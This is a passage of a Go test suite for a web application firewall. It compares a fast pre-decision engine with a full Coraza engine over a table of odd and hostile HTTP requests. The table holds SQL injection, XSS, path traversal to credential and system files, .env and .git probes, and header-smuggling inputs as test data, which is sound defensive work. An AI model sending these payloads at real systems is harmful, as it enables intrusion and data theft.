package detect

import (
	"context"
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"net/url"
	"strconv"
	"strings"
	"sync"
	"testing"

	"github.com/apisessions/apisessions"
)

// An adversarial table for the pre-decision: exchanges whose variables are
// easy to build differently from Coraza (odd query and cookie syntax, JSON
// edge cases, content types, protocols, header spelling, limits), each run
// through the full engine and the fast one at every paranoia level and
// under non-default options. A pre-decided "clean" must be what the full
// engine says, and the fast engine's verdict, score, rule IDs and partial
// flag must equal the full engine's.

// reviewCase is one exchange of the table; proto "" is HTTP/1.1.
type reviewCase struct {
	name  string
	proto string
	ex    apisessions.Exchange
}

func rvReq(method, url string, body string, h ...apisessions.Header) apisessions.Exchange {
	ex := apisessions.Exchange{Request: apisessions.Request{Method: method, URL: url, Headers: hdrs(h...)}}
	if body != "" {
		ex.Request.Body = []byte(body)
	}
	return ex
}

// rvBare is a request with exactly the headers given.
func rvBare(method, url string, body string, h ...apisessions.Header) apisessions.Exchange {
	ex := apisessions.Exchange{Request: apisessions.Request{Method: method, URL: url, Headers: apisessions.Headers(h)}}
	if body != "" {
		ex.Request.Body = []byte(body)
	}
	return ex
}

func rvH(name, value string) apisessions.Header { return apisessions.Header{Name: name, Value: value} }

var (
	rvJSON = rvH("Content-Type", "application/json")
	rvForm = rvH("Content-Type", "application/x-www-form-urlencoded")
)

// reviewCases is the table; attacks are placed where the view's reading of
// the request could differ from Coraza's.
func reviewCases() []reviewCase {
	long := strings.Repeat("a", 4000)
	deep := strings.Repeat("[", 70) + strings.Repeat("]", 70)
	manyJSON := "{"
	for i := range 1001 {
		if i > 0 {
			manyJSON += ","
		}
		manyJSON += fmt.Sprintf(`"k%d":%d`, i, i)
	}
	manyJSON += "}"
	cs := []reviewCase{
		// Query strings.
		{name: "query semicolon separator", ex: rvReq("GET", "/api/a?x=1;q=1' UNION SELECT password FROM users--", "")},
		{name: "query semicolon benign", ex: rvReq("GET", "/api/a?x=1;y=2", "")},
		{name: "query double ampersand", ex: rvReq("GET", "/api/a?&&q=%3Cscript%3Ealert(1)%3C/script%3E&&", "")},
		{name: "query without equals", ex: rvReq("GET", "/api/a?%3Cscript%3Ealert(1)%3C/script%3E", "")},
		{name: "query bare key benign", ex: rvReq("GET", "/api/a?flag&x=1", "")},
		{name: "query malformed percent", ex: rvReq("GET", "/api/a?q=%zz%3Cscript%3Ealert(1)%3C/script%3E%", "")},
		{name: "query malformed percent benign", ex: rvReq("GET", "/api/a?q=100%&r=%zz&s=%4", "")},
		{name: "query plus spaces", ex: rvReq("GET", "/api/a?q=1'+or+'1'='1", "")},
		{name: "query plus benign", ex: rvReq("GET", "/api/a?q=blue+house&r=a%2Bb", "")},
		{name: "query repeated key", ex: rvReq("GET", "/api/a?q=ok&q=1'%20or%20'1'='1", "")},
		{name: "query encoded name", ex: rvReq("GET", "/api/a?%3Cscript%3Ealert(1)%3C%2Fscript%3E=1", "")},
		{name: "query encoded name benign", ex: rvReq("GET", "/api/a?na%6De=1&%61=2", "")},
		{name: "query null byte", ex: rvReq("GET", "/api/a?q=a%00b", "")},
		{name: "query percent-u", ex: rvReq("GET", "/api/a?q=%u0027%u0020or%u00201=1", "")},
		{name: "query fullwidth percent-u", ex: rvReq("GET", "/api/a?q=%uff1cscript%uff1e", "")},
		{name: "query overlong utf8", ex: rvReq("GET", "/api/a?q=%C0%AE%C0%AE%2F%C0%AE%C0%AE%2Fetc%2Fpasswd", "")},
		{name: "query raw non-utf8", ex: rvReq("GET", "/api/a?q=caf\xe9&r=\xff\xfe", "")},
		{name: "query encoded non-utf8", ex: rvReq("GET", "/api/a?q=caf%E9&r=%FF%FE", "")},
		{name: "query long value", ex: rvReq("GET", "/api/a?q="+long, "")},
		{name: "query unicode escape", ex: rvReq("GET", "/api/a?q=%5Cu003cscript%5Cu003e", "")},
		{name: "query tab", ex: rvReq("GET", "/api/a?q=1\t2", "")},
		{name: "query control byte", ex: rvReq("GET", "/api/a?q=\x01x", "")},
		{name: "query newline", ex: rvReq("GET", "/api/a?q=a%0Ab", "")},
		{name: "query raw space", ex: rvReq("GET", "/api/a?q=blue house", "")},
		{name: "query equals in value", ex: rvReq("GET", "/api/a?q=a=b=c&t=x==", "")},
		{name: "query empty", ex: rvReq("GET", "/api/a?", "")},
		{name: "query method override", ex: rvReq("GET", "/api/a?_method=delete", "")},
		{name: "query method override name case", ex: rvReq("GET", "/api/a?_METHOD=delete", "")},
		{name: "query hash in value", ex: rvReq("GET", "/api/a?q=%23<script>alert(1)</script>", "")},

		// Paths.
		{name: "path double slash", ex: rvReq("GET", "//etc/passwd", "")},
		{name: "path double slash benign", ex: rvReq("GET", "//api//users//1", "")},
		{name: "path parameters", ex: rvReq("GET", "/api/a;jsessionid=1' or '1'='1/b", "")},
		{name: "path parameters benign", ex: rvReq("GET", "/api/a;v=1/b;x=2", "")},
		{name: "path fragment", ex: rvReq("GET", "/api/a?x=1#<script>alert(1)</script>", "")},
		{name: "path fragment benign", ex: rvReq("GET", "/api/a#top", "")},
		{name: "path traversal", ex: rvReq("GET", "/api/../../etc/passwd", "")},
		{name: "path encoded traversal", ex: rvReq("GET", "/api/%2e%2e/%2e%2e/etc/passwd", "")},
		{name: "path encoded slash", ex: rvReq("GET", "/api/a%2Fb%2F..%2F..%2Fetc%2Fshadow", "")},
		{name: "path backslash", ex: rvReq("GET", "/api\\..\\..\\windows\\win.ini", "")},
		{name: "path restricted extension", ex: rvReq("GET", "/api/backup.sql", "")},
		{name: "path restricted extension upper", ex: rvReq("GET", "/api/BACKUP.BAK", "")},
		{name: "path encoded extension", ex: rvReq("GET", "/api/backup%2ebak", "")},
		{name: "path dotfile", ex: rvReq("GET", "/.env", "")},
		{name: "path git", ex: rvReq("GET", "/.git/config", "")},
		{name: "path bad escape", ex: rvReq("GET", "/api/a%zz?q=%3Cscript%3Ealert(1)%3C/script%3E", "")},
		{name: "path bad escape benign", ex: rvReq("GET", "/api/100%?q=1", "")},
		{name: "path trailing percent", ex: rvReq("GET", "/api/a%", "")},
		{name: "path control byte", ex: rvReq("GET", "/api/a\x01b?q=1", "")},
		{name: "path raw space", ex: rvReq("GET", "/api/a b?q=1", "")},
		{name: "path non-utf8", ex: rvReq("GET", "/api/caf\xe9", "")},
		{name: "path null", ex: rvReq("GET", "/api/a%00.txt", "")},
		{name: "path asterisk", ex: rvReq("OPTIONS", "*", "")},
		{name: "path empty", ex: rvReq("GET", "", "")},
		{name: "path basename dot only", ex: rvReq("GET", "/api/a.", "")},
		{name: "path php", ex: rvReq("GET", "/index.php?page=php://filter/resource=index", "")},

		// Absolute URIs and hosts.
		{name: "absolute uri", ex: rvBare("GET", "http://api.example.com:8080/a?q=1", "", rvH("User-Agent", "Mozilla/5.0"), rvH("Accept", "*/*"))},
		{name: "absolute uri ip host", ex: rvBare("GET", "http://10.0.0.1/a?q=1", "", rvH("User-Agent", "Mozilla/5.0"), rvH("Accept", "*/*"))},
		{name: "absolute uri userinfo", ex: rvBare("GET", "http://user:pass@api.example.com/a", "", rvH("User-Agent", "Mozilla/5.0"), rvH("Accept", "*/*"))},
		{name: "absolute uri and host header", ex: rvReq("GET", "https://other.example/a?q=1", "")},
		{name: "absolute uri no path", ex: rvBare("GET", "http://api.example.com", "", rvH("User-Agent", "Mozilla/5.0"), rvH("Accept", "*/*"))},
		{name: "absolute uri query only", ex: rvBare("GET", "http://api.example.com?q=<script>alert(1)</script>", "", rvH("User-Agent", "Mozilla/5.0"), rvH("Accept", "*/*"))},
		{name: "host with port", ex: rvBare("GET", "/a", "", rvH("Host", "api.example.com:8443"), rvH("User-Agent", "Mozilla/5.0"), rvH("Accept", "*/*"))},
		{name: "host ip", ex: rvBare("GET", "/a", "", rvH("Host", "192.168.1.1"), rvH("User-Agent", "Mozilla/5.0"), rvH("Accept", "*/*"))},
		{name: "host ip with port", ex: rvBare("GET", "/a", "", rvH("Host", "192.168.1.1:8080"), rvH("User-Agent", "Mozilla/5.0"), rvH("Accept", "*/*"))},
		{name: "host ipv6", ex: rvBare("GET", "/a", "", rvH("Host", "[::1]:8080"), rvH("User-Agent", "Mozilla/5.0"), rvH("Accept", "*/*"))},
		{name: "host missing", ex: rvBare("GET", "/a", "", rvH("User-Agent", "Mozilla/5.0"), rvH("Accept", "*/*"))},
		{name: "host empty", ex: rvBare("GET", "/a", "", rvH("Host", ""), rvH("User-Agent", "Mozilla/5.0"), rvH("Accept", "*/*"))},
		{name: "host lower case name", ex: rvBare("GET", "/a", "", rvH("host", "api.example.com"), rvH("User-Agent", "Mozilla/5.0"), rvH("Accept", "*/*"))},
		{name: "host repeated", ex: rvReq("GET", "/a", "", rvH("Host", "evil.example"))},
		{name: "host attack", ex: rvBare("GET", "/a", "", rvH("Host", "api.example.com'; DROP TABLE users--"), rvH("User-Agent", "Mozilla/5.0"), rvH("Accept", "*/*"))},

		// Methods and protocols.
		{name: "method lower case", ex: rvReq("get", "/api/a?q=1", "")},
		{name: "method empty", ex: rvReq("", "/api/a?q=1", "")},
		{name: "method unknown", ex: rvReq("FOO", "/api/a", "")},
		{name: "method propfind", ex: rvReq("PROPFIND", "/api/a", "")},
		{name: "method trace", ex: rvReq("TRACE", "/api/a", "")},
		{name: "method with space", ex: rvReq("GET /x", "/api/a", "")},
		{name: "protocol 1.0 no host", proto: "HTTP/1.0", ex: rvBare("GET", "/a", "", rvH("User-Agent", "Mozilla/5.0"), rvH("Accept", "*/*"))},
		{name: "protocol 1.0", proto: "HTTP/1.0", ex: rvReq("GET", "/a?q=1", "")},
		{name: "protocol 2", proto: "HTTP/2", ex: rvReq("GET", "/a?q=1", "")},
		{name: "protocol 2.0", proto: "HTTP/2.0", ex: rvReq("GET", "/a?q=1", "")},
		{name: "protocol 3", proto: "HTTP/3", ex: rvReq("GET", "/a?q=1", "")},
		{name: "protocol 0.9", proto: "HTTP/0.9", ex: rvReq("GET", "/a", "")},
		{name: "protocol lower", proto: "http/1.1", ex: rvReq("GET", "/a", "")},
		{name: "protocol odd", proto: "HTTP/1.1x", ex: rvReq("GET", "/a", "")},
		{name: "protocol empty", proto: "", ex: rvReq("GET", "/a", "")},
		{name: "post http2 no length", proto: "HTTP/2", ex: rvReq("POST", "/a", "")},
		{name: "post http1 no length", ex: rvReq("POST", "/a", "")},
		{name: "post http1 length zero", ex: rvReq("POST", "/a", "", rvH("Content-Length", "0"))},

		// Headers.
		{name: "header names in odd case", ex: rvBare("GET", "/a", "", rvH("HOST", "api.example.com"), rvH("user-agent", "Mozilla/5.0"), rvH("ACCEPT", "*/*"))},
		{name: "header repeated accept", ex: rvReq("GET", "/a", "", rvH("Accept", ""), rvH("accept", "text/html"))},
		{name: "header user agent missing", ex: rvBare("GET", "/a", "", rvH("Host", "api.example.com"), rvH("Accept", "*/*"))},
		{name: "header accept missing", ex: rvBare("GET", "/a", "", rvH("Host", "api.example.com"), rvH("User-Agent", "Mozilla/5.0"))},
		{name: "header user agent empty", ex: rvBare("GET", "/a", "", rvH("Host", "api.example.com"), rvH("User-Agent", ""), rvH("Accept", "*/*"))},
		{name: "header scanner agent", ex: rvBare("GET", "/a", "", rvH("Host", "api.example.com"), rvH("User-Agent", "sqlmap/1.7"), rvH("Accept", "*/*"))},
		{name: "header content-length text", ex: rvReq("GET", "/a", "", rvH("Content-Length", "abc"))},
		{name: "header content-length negative", ex: rvReq("GET", "/a", "", rvH("Content-Length", "-1"))},
		{name: "header content-length on get", ex: rvReq("GET", "/a", "", rvH("Content-Length", "10"))},
		{name: "header content-length mismatch", ex: rvReq("POST", "/a", "a=1&b=2", rvForm, rvH("Content-Length", "3"))},
		{name: "header transfer-encoding on get", ex: rvReq("GET", "/a", "", rvH("Transfer-Encoding", "chunked"))},
		{name: "header transfer-encoding and length", ex: rvReq("POST", "/a", "a=1", rvForm, rvH("Transfer-Encoding", "chunked"), rvH("Content-Length", "3"))},
		{name: "header range many", ex: rvReq("GET", "/a", "", rvH("Range", "bytes=0-1,2-3,4-5,6-7,8-9,10-11,12-13,14-15,16-17,18-19,20-21,22-23,24-25,26-27,28-29,30-31,32-33,34-35,36-37,38-39,40-41,42-43,44-45,46-47,48-49,50-51,52-53,54-55,56-57,58-59,60-61,62-63,64-65"))},
		{name: "header range reversed", ex: rvReq("GET", "/a", "", rvH("Range", "bytes=10-2"))},
		{name: "header connection", ex: rvReq("GET", "/a", "", rvH("Connection", "keep-alive, close, keep-alive"))},
		{name: "header proxy", ex: rvReq("GET", "/a", "", rvH("Proxy", "http://evil.example"))},
		{name: "header restricted names case", ex: rvReq("GET", "/a", "", rvH("LOCK-TOKEN", "x"), rvH("Content-Encoding", "gzip"))},
		{name: "header underscore name", ex: rvReq("GET", "/a", "", rvH("X_Forwarded_For", "1.2.3.4"))},
		{name: "header non-ascii name", ex: rvReq("GET", "/a", "", rvH("X-Café", "1"))},
		{name: "header empty name", ex: rvReq("GET", "/a", "", rvH("", "<script>alert(1)</script>"))},
		{name: "header null byte", ex: rvReq("GET", "/a", "", rvH("X-Foo", "a\x00b"))},
		{name: "header newline", ex: rvReq("GET", "/a", "", rvH("X-Foo", "a\nb: <script>alert(1)</script>"))},
		{name: "header high bytes", ex: rvReq("GET", "/a", "", rvH("X-Foo", "caf\xc3\xa9 \xff"))},
		{name: "header cache-control", ex: rvReq("GET", "/a", "", rvH("Cache-Control", "no-cache, foo=<bar>"))},
		{name: "header accept-encoding long", ex: rvReq("GET", "/a", "", rvH("Accept-Encoding", strings.Repeat("gzip,", 30)))},
		{name: "header accept charset", ex: rvReq("GET", "/a", "", rvH("Accept", "text/html;charset=utf-7"))},
		{name: "header referer attack", ex: rvReq("GET", "/a", "", rvH("Referer", "http://x.example/?q=<script>alert(1)</script>"))},
		{name: "header x-forwarded-for", ex: rvReq("GET", "/a", "", rvH("X-Forwarded-For", "127.0.0.1, 10.0.0.1"))},
		{name: "header unicode escape", ex: rvReq("GET", "/a", "", rvH("X-Foo", "\\u0041"))},
		{name: "header sec-fetch", ex: rvReq("GET", "/a", "", rvH("Sec-Fetch-User", "?0"), rvH("Sec-CH-UA-Mobile", "?2"))},
		{name: "header long value", ex: rvReq("GET", "/a", "", rvH("X-Long", long))},

		// Cookies.
		{name: "cookie quoted", ex: rvReq("GET", "/a", "", rvH("Cookie", `sid="1' or '1'='1"`))},
		{name: "cookie dollar version", ex: rvReq("GET", "/a", "", rvH("Cookie", `$Version=1; sid=abc; $Path=/`))},
		{name: "cookie quoted dollar version", ex: rvReq("GET", "/a", "", rvH("Cookie", `"$Version"=1; sid=abc`))},
		{name: "cookie spaces", ex: rvReq("GET", "/a", "", rvH("Cookie", ` a b = <script>alert(1)</script> ; c=d `))},
		{name: "cookie empty name", ex: rvReq("GET", "/a", "", rvH("Cookie", `=<script>alert(1)</script>; a=b`))},
		{name: "cookie empty name benign", ex: rvReq("GET", "/a", "", rvH("Cookie", `=x; =; ;; a=b`))},
		{name: "cookie duplicate names", ex: rvReq("GET", "/a", "", rvH("Cookie", `sid=ok; sid=1' UNION SELECT password FROM users--`))},
		{name: "cookie without equals", ex: rvReq("GET", "/a", "", rvH("Cookie", `<script>alert(1)</script>; a=b`))},
		{name: "cookie equals in value", ex: rvReq("GET", "/a", "", rvH("Cookie", `a=b=c==; d=e`))},
		{name: "cookie control bytes", ex: rvReq("GET", "/a", "", rvH("Cookie", "a\x0b=1' or '1'='1; b=\x01x"))},
		{name: "cookie two headers", ex: rvReq("GET", "/a", "", rvH("Cookie", "a=1"), rvH("cookie", "b=<script>alert(1)</script>"))},
		{name: "cookie encoded", ex: rvReq("GET", "/a", "", rvH("Cookie", "a=%3Cscript%3Ealert(1)%3C%2Fscript%3E"))},
		{name: "cookie session fixation", ex: rvReq("GET", "/a?jsessionid=abc", "", rvH("Referer", "http://other.example/"))},
		{name: "cookie name attack", ex: rvReq("GET", "/a", "", rvH("Cookie", "1' or '1'='1=x"))},
		{name: "cookie ga exception", ex: rvReq("GET", "/a", "", rvH("Cookie", "_ga=GA1.2.3' OR 1=1--; __utmz=<script>"))},

		// JSON bodies.
		{name: "json duplicate keys", ex: rvReq("POST", "/a", `{"q":"ok","q":"1' UNION SELECT password FROM users--"}`, rvJSON)},
		{name: "json nested arrays", ex: rvReq("POST", "/a", `{"a":[[1,2],[3,["<script>alert(1)</script>"]]]}`, rvJSON)},
		{name: "json nested arrays benign", ex: rvReq("POST", "/a", `{"a":[[1,2],[3,[4,{"b":[]}]]],"c":{}}`, rvJSON)},
		{name: "json numbers", ex: rvReq("POST", "/a", `{"a":1e999,"b":-0.0,"c":123456789012345678901234567890,"d":1E+2}`, rvJSON)},
		{name: "json unicode escapes", ex: rvReq("POST", "/a", `{"q":"\u003cscript\u003ealert(1)\u003c/script\u003e"}`, rvJSON)},
		{name: "json unicode escapes benign", ex: rvReq("POST", "/a", `{"q":"caf\u00e9 \ud83d\ude00"}`, rvJSON)},
		{name: "json escaped null", ex: rvReq("POST", "/a", `{"q":"a\u0000b"}`, rvJSON)},
		{name: "json escaped key", ex: rvReq("POST", "/a", `{"\u003cscript\u003ealert(1)\u003c/script\u003e":1}`, rvJSON)},
		{name: "json lone surrogate", ex: rvReq("POST", "/a", `{"q":"\ud800x"}`, rvJSON)},
		{name: "json top level string", ex: rvReq("POST", "/a", `"<script>alert(1)</script>"`, rvJSON)},
		{name: "json top level number", ex: rvReq("POST", "/a", `42`, rvJSON)},
		{name: "json top level null", ex: rvReq("POST", "/a", `null`, rvJSON)},
		{name: "json top level array", ex: rvReq("POST", "/a", `["1' or '1'='1", 2]`, rvJSON)},
		{name: "json top level array benign", ex: rvReq("POST", "/a", `[1,2,3]`, rvJSON)},
		{name: "json invalid", ex: rvReq("POST", "/a", `{"q":"x",}`, rvJSON)},
		{name: "json invalid attack", ex: rvReq("POST", "/a", `{"q":"<script>alert(1)</script>"`, rvJSON)},
		{name: "json trailing garbage", ex: rvReq("POST", "/a", `{"q":1} {"r":"<script>alert(1)</script>"}`, rvJSON)},
		{name: "json bom", ex: rvReq("POST", "/a", "\xef\xbb\xbf{\"q\":\"x\"}", rvJSON)},
		{name: "json empty object", ex: rvReq("POST", "/a", `{}`, rvJSON)},
		{name: "json whitespace only", ex: rvReq("POST", "/a", " \n", rvJSON)},
		{name: "json too deep", ex: rvReq("POST", "/a", deep, rvJSON)},
		{name: "json too many args", ex: rvReq("POST", "/a", manyJSON, rvJSON)},
		{name: "json raw newline in string", ex: rvReq("POST", "/a", "{\"q\":\"a\nunion select password from users\"}", rvJSON)},
		{name: "json non-utf8", ex: rvReq("POST", "/a", "{\"q\":\"caf\xe9\"}", rvJSON)},
		{name: "json key with dot", ex: rvReq("POST", "/a", `{"a.b":{"c":"x"},"a":{"b.c":"y"}}`, rvJSON)},
		{name: "json method override", ex: rvReq("POST", "/a", `{"_method":"delete"}`, rvJSON)},
		{name: "json bool and null", ex: rvReq("POST", "/a", `{"a":true,"b":false,"c":null}`, rvJSON)},
		{name: "json charset utf-7", ex: rvReq("POST", "/a", `{"a":1}`, rvH("Content-Type", "application/json; charset=utf-7"))},
		{name: "json charset param", ex: rvReq("POST", "/a", `{"a":"<script>alert(1)</script>"}`, rvH("Content-Type", "application/json; charset=UTF-8"))},
		{name: "json upper case type", ex: rvReq("POST", "/a", `{"a":"<script>alert(1)</script>"}`, rvH("Content-Type", "APPLICATION/JSON"))},
		{name: "json leading space type", ex: rvReq("POST", "/a", `{"a":"<script>alert(1)</script>"}`, rvH("Content-Type", " application/json"))},
		{name: "json leading space type benign", ex: rvReq("POST", "/a", `{"a":"b"}`, rvH("Content-Type", " application/json"))},
		{name: "json tab after type", ex: rvReq("POST", "/a", `{"a":"b"}`, rvH("Content-Type", "application/json\t"))},
		{name: "json plus subtype", ex: rvReq("POST", "/a", `{"a":"<script>alert(1)</script>"}`, rvH("Content-Type", "application/vnd.api+json"))},
		{name: "json plus subtype benign", ex: rvReq("POST", "/a", `{"a":"b"}`, rvH("Content-Type", "application/problem+json"))},
		{name: "json xml plus json", ex: rvReq("POST", "/a", `{"a":"b"}`, rvH("Content-Type", "application/xml+json"))},
		{name: "json kelvin subtype", ex: rvReq("POST", "/a", `{"a":"b"}`, rvH("Content-Type", "application/\u212aa+json"))},
		{name: "json type text/json", ex: rvReq("POST", "/a", `{"a":"b&c=<script>alert(1)</script>"}`, rvH("Content-Type", "text/json"))},
		{name: "json type duplicate", ex: rvReq("POST", "/a", `{"a":"b"}`, rvJSON, rvJSON)},
		{name: "json on get", ex: rvReq("GET", "/a", `{"a":"b"}`, rvJSON)},
		{name: "json with query", ex: rvReq("POST", "/a?json.a=1", `{"a":"b"}`, rvJSON)},

		// Form and other bodies.
		{name: "form semicolons", ex: rvReq("POST", "/a", "a=1;q=1' UNION SELECT password FROM users--", rvForm)},
		{name: "form bad percent", ex: rvReq("POST", "/a", "a=%zz&b=%", rvForm)},
		{name: "form bad percent attack", ex: rvReq("POST", "/a", "a=%zz&b=%3Cscript%3Ealert(1)%3C/script%3E", rvForm)},
		{name: "form encoded names", ex: rvReq("POST", "/a", "%5F%6Dethod=delete&x=1", rvForm)},
		{name: "form repeated mixed case", ex: rvReq("POST", "/a", "Q=ok&q=1'%20or%20'1'='1", rvForm)},
		{name: "form charset", ex: rvReq("POST", "/a", "a=1&b=2", rvH("Content-Type", "application/x-www-form-urlencoded; charset=UTF-8"))},
		{name: "form upper type", ex: rvReq("POST", "/a", "a=1&b=<script>alert(1)</script>", rvH("Content-Type", "APPLICATION/X-WWW-FORM-URLENCODED"))},
		{name: "form newline value", ex: rvReq("POST", "/a", "a=1%0D%0Ab=2", rvForm)},
		{name: "form raw newline", ex: rvReq("POST", "/a", "a=1\nb=2", rvForm)},
		{name: "form non-utf8", ex: rvReq("POST", "/a", "a=caf\xe9", rvForm)},
		{name: "form percent-u", ex: rvReq("POST", "/a", "a=%u0027", rvForm)},
		{name: "form on get", ex: rvReq("GET", "/a", "a=1&b=2", rvForm)},
		{name: "form empty pairs", ex: rvReq("POST", "/a", "&&=&a=", rvForm)},
		{name: "text plain body", ex: rvReq("POST", "/a", "hello world", rvH("Content-Type", "text/plain"))},
		{name: "text plain body attack", ex: rvReq("POST", "/a", "q=<script>alert(1)</script>", rvH("Content-Type", "text/plain"))},
		{name: "unknown type body", ex: rvReq("POST", "/a", "a=1", rvH("Content-Type", "application/octet-stream"))},
		{name: "empty type body", ex: rvReq("POST", "/a", "a=1", rvH("Content-Type", ""))},
		{name: "type semicolon only", ex: rvReq("POST", "/a", "a=1", rvH("Content-Type", ";"))},
		{name: "type not allowed", ex: rvReq("POST", "/a", "a=1", rvH("Content-Type", "application/x-foo"))},
		{name: "body without type", ex: rvReq("POST", "/a", "a=1")},
		{name: "body on get without type", ex: rvReq("GET", "/a", "a=1")},
		{name: "xml body", ex: rvReq("POST", "/a", "<a>1</a>", rvH("Content-Type", "application/xml"))},
		{name: "multipart body", ex: rvReq("POST", "/a", "--x\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n1\r\n--x--\r\n", rvH("Content-Type", "multipart/form-data; boundary=x"))},
		{name: "body with percent", ex: rvReq("POST", "/a", "a=100%25&b=50%", rvForm)},
		{name: "body percent in json", ex: rvReq("POST", "/a", `{"a":"100%zz"}`, rvJSON)},

		// Around the limits of the tight variant (3 arguments, 40 body
		// bytes, JSON depth 3) and the defaults.
		{name: "limit three query args", ex: rvReq("GET", "/a?a=1&b=2&c=3", "")},
		{name: "limit four query args", ex: rvReq("GET", "/a?a=1&b=2&c=3&d=<script>alert(1)</script>", "")},
		{name: "limit four query args benign", ex: rvReq("GET", "/a?a=1&b=2&c=3&d=4", "")},
		{name: "limit three args and empty pairs", ex: rvReq("GET", "/a?a=1&&b=2&c=3&&", "")},
		{name: "limit three form args", ex: rvReq("POST", "/a", "a=1&b=2&c=3", rvForm)},
		{name: "limit four form args", ex: rvReq("POST", "/a", "a=1&b=2&c=3&d=4", rvForm)},
		{name: "limit body 40 bytes", ex: rvReq("POST", "/a", "a=0123456789012345678901234567890123456", rvForm)},
		{name: "limit body 41 bytes", ex: rvReq("POST", "/a", "a=01234567890123456789012345678901234567", rvForm)},
		{name: "limit body 41 bytes attack tail", ex: rvReq("POST", "/a", "a=1&b=2&q=<script>alert(1)</script>&c=<script>", rvForm)},
		{name: "limit json depth 3", ex: rvReq("POST", "/a", `{"a":{"b":{"c":1}}}`, rvJSON)},
		{name: "limit json depth 4", ex: rvReq("POST", "/a", `{"a":{"b":{"c":{"d":1}}}}`, rvJSON)},
		{name: "limit json three leaves and a length", ex: rvReq("POST", "/a", `{"a":[1,2,3]}`, rvJSON)},
		{name: "limit json four leaves", ex: rvReq("POST", "/a", `{"a":[1,2],"b":[3,4]}`, rvJSON)},
		{name: "limit json arrays of arrays", ex: rvReq("POST", "/a", `[[1],[2],[3],[4]]`, rvJSON)},
		{name: "limit json empty arrays", ex: rvReq("POST", "/a", `[[],[],[],[],[]]`, rvJSON)},
		{name: "limit json args and query args", ex: rvReq("POST", "/a?x=1&y=2&z=3", `{"a":1,"b":2,"c":3}`, rvJSON)},
	}
	for i := range cs {
		if cs[i].proto == "" && !strings.HasPrefix(cs[i].name, "protocol empty") {
			cs[i].proto = "HTTP/1.1"
		}
	}
	return cs
}

// reviewVariant is an engine configuration the table runs under; the table
// must see some of its requests pre-decided.
type reviewVariant struct {
	name string
	opts func(o *Options)
}

var reviewVariants = []reviewVariant{
	{"PL1", func(o *Options) {}},
	{"PL2", func(o *Options) { o.ParanoiaLevel = 2 }},
	{"PL3", func(o *Options) { o.ParanoiaLevel = 3 }},
	{"PL4", func(o *Options) { o.ParanoiaLevel = 4 }},
	{"PL1-limits", func(o *Options) {
		o.MaxArgs = 3
		o.BodyLimit = 40
		o.MaxJSONDepth = 3
	}},
	{"PL1-exclusions", func(o *Options) { o.ExcludeRules = []int{920350, 942100, 941100, 920320, 920300} }},
	// The paranoia skips of some files excluded: their level 2+ rules run.
	{"PL1-skips-excluded", func(o *Options) {
		o.ExcludeRules = []int{920013, 920014, 921013, 921014, 932013, 932014, 941013, 941014, 942013, 942014}
	}},
	{"PL3-crs-methods", func(o *Options) {
		o.ParanoiaLevel = 3
		o.AllowedMethods = nil
		o.AnomalyThreshold = 3
	}},
}

// reviewPair returns the full and fast engines of a variant.
func reviewPair(tb testing.TB, v reviewVariant) (full, fast *Engine) {
	tb.Helper()
	o := DefaultOptions()
	v.opts(&o)
	if v.name == fmt.Sprintf("PL%d", o.ParanoiaLevel) {
		// Only the paranoia level differs from the defaults: the engines
		// the other tests share.
		return enginePair(tb, o.ParanoiaLevel)
	}
	o.Mode = ModeFull
	full = sharedEngine(tb, "review-"+v.name+"-full", o)
	o.Mode = ModeFast
	fast = sharedEngine(tb, "review-"+v.name+"-fast", o)
	return full, fast
}

// reviewDiff describes how the fast engine differs from the full one on
// ex (comparePair's verdict, score, rule IDs and pre-decision checks, and
// the partial flag), "" when it does not; pre reports a pre-decided clean.
func reviewDiff(t *testing.T, full, fast *Engine, ex *apisessions.Exchange, proto string) (diff string, pre bool) {
	t.Helper()
	if d := comparePair(t, full, fast, ex, proto); d != "" {
		return d, false // comparePair has already looked for a shared outcome
	}
	if clean, _ := fast.pre.decide(ex, proto); clean {
		return "", true
	}
	rf, err := full.run(ex, proto, nil)
	if err != nil {
		t.Fatalf("full: %v", err)
	}
	rs, err := fast.run(ex, proto, nil)
	if err != nil {
		t.Fatalf("fast: %v", err)
	}
	if rf.partial != rs.partial {
		return fmt.Sprintf("partial: full %v, fast %v", rf.partial, rs.partial), false
	}
	return "", false
}

// reviewOutcomesMeet reports whether some run of the full engine and some
// run of the fast one give ex the same verdict, score and rule IDs.
// Coraza's transformation cache is keyed by a value's index in a list
// built in map order (with the key's string pointer, which the values of a
// repeated form field or cookie share), so a rule can read another value's
// transformed form: on such requests the matched rules and the score vary
// from run to run in both engines (see the review notes).
func reviewOutcomesMeet(t *testing.T, full, fast *Engine, ex *apisessions.Exchange, proto string) bool {
	t.Helper()
	outcome := func(e *Engine) string {
		r, err := e.run(ex, proto, nil)
		if err != nil {
			t.Fatalf("%s: %v", e.opts.Mode, err)
		}
		d := e.detection(ex, r)
		return fmt.Sprint(d.Verdict, d.Score, ruleIDs(r))
	}
	seen := map[string]bool{}
	for range 30 {
		seen[outcome(full)] = true
	}
	for range 30 {
		if seen[outcome(fast)] {
			return true
		}
	}
	return false
}

// reviewViewMissing lists the values Coraza holds that the view of ex
// lacks ("" when the view refuses ex or holds them all). The view may hold
// more: Coraza's urlencoded body processor keeps one of two argument names
// differing in case only, at random (see TestReviewFormNamesInCase).
func reviewViewMissing(t *testing.T, e *Engine, ex *apisessions.Exchange, proto string) string {
	t.Helper()
	v, ok := newView(ex, proto, &e.opts)
	if !ok {
		return ""
	}
	want, got := corazaVariables(t, e, ex, proto), viewVariablesOf(v)
	var missing []string
	for _, name := range viewVariables {
		have := map[string]int{}
		for _, x := range got[name] {
			have[x]++
		}
		for _, x := range want[name] {
			if have[x] == 0 {
				missing = append(missing, fmt.Sprintf("%s %q", name, x))
				continue
			}
			have[x]--
		}
	}
	return strings.Join(missing, ", ")
}

// reviewKnown are the cases that currently differ, by variant and case
// name, with the reproducer in the review notes.
var reviewKnown = map[string]string{}

// TestReviewPrejudge runs the table under every variant.
func TestReviewPrejudge(t *testing.T) {
	cases := reviewCases()
	variants := reviewVariants
	if testing.Short() || sampleEvery > 1 {
		variants = variants[:1]
	}
	for _, v := range variants {
		t.Run(v.name, func(t *testing.T) {
			full, fast := reviewPair(t, v)
			if fast.pre == nil {
				t.Fatalf("%s: the fast engine has no pre-decision", v.name)
			}
			pre, flagged, checked := 0, 0, 0
			step := 1
			if sampleEvery > 1 {
				step = 4 // under the race detector: a quarter of the table
			}
			for i, c := range cases {
				if i%step != 0 {
					continue
				}
